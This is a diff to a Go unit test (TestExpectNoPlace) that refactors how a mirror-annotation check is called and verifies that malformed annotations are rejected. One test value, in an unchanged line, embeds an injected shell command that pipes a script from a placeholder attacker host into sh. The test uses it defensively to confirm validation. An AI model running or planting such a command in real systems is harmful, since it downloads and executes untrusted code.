@@ -1,6 +1,7 @@
 package dispatch
 
 import (
+	"errors"
 	"testing"
 
 	"gotest.tools/v3/assert"
@@ -20,14 +21,20 @@ func TestExpectNoPlace(t *testing.T) {
 	at.ref = apiserver.RefTo(at.origin, at.Kind.GroupVersionKind(), "ml", "train", "uid-of-train")
 	at.mirrorRef = apiserver.RefTo(at.worker, at.Kind.GroupVersionKind(), "ml", "train", "")
 	origin := &unstructured.Unstructured{}
-	assert.NilError(t, at.expect(origin))
+	origin.SetNamespace("ml")
+	origin.SetName("train")
+	expect := func() error {
+		final, err := at.expect(t.Context(), origin)
+		return errors.Join(final, err)
+	}
+	assert.NilError(t, expect())
 	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/ml/train/uid-of-mirror"})
-	assert.NilError(t, at.expect(origin))
+	assert.NilError(t, expect())
 	assert.Equal(t, at.mirrorRef.UID, "uid-of-mirror")
 
 	at.mirrorRef.UID = ""
 	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/x; curl evil.example|sh #/train/uid"})
-	err := at.expect(origin)
+	err := expect()
 	assert.ErrorContains(t, err, "names no object, so it is not known where its mirror is")
 	assert.Equal(t, at.mirrorRef.UID, "")
 	for _, part := range command.Prose(err.Error()).Parts() {
